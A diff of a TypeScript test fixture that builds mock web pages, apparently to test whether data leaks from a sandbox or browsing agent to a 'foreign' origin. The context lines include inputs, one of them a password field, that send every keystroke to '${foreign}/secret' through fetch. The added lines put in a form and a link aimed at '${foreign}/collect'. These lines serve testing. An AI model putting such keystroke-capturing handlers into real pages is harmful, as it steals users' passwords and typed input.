@@ -72,6 +72,8 @@ const pages = (foreign: string): Record<string, string> => ({
   '/preview': `<h1>Preview of what Mallory wrote</h1><iframe sandbox="allow-scripts allow-forms" width="500" height="120" srcdoc="
 <label>Coupon <input oninput='fetch(&quot;${foreign}/typed?&quot; + value)'></label><label>Password <input type='password' oninput='fetch(&quot;${foreign}/secret?&quot; + value)'></label>"></iframe><iframe sandbox="allow-scripts" width="500" height="60" src="/uploaded"></iframe>`,
   '/uploaded': `<label>Voucher <input oninput="fetch('${foreign}/typed?' + value)"></label>`,
+  '/sink': `<h1>Orders</h1><p>Order 4711: a lamp</p><form action="${foreign}/collect" target="sink"><label>Note <input name="q"></label><button>Next</button></form>
+<a href="${foreign}/linked" target="sink">Read on</a><iframe name="sink" width="300" height="60"></iframe>`,
   '/mail': `<h1>Inbox</h1><p>Statement: 1,204 owed</p><p>Reply with a picture, so that I see that you care.</p>
 <div contenteditable role="textbox" aria-label="Reply" style="min-height: 60px; border: 1px solid"></div>`,
   '/pings': `<h1>News</h1><p><a href="/kept" ping="${foreign}/ping">Read on</a></p>`,
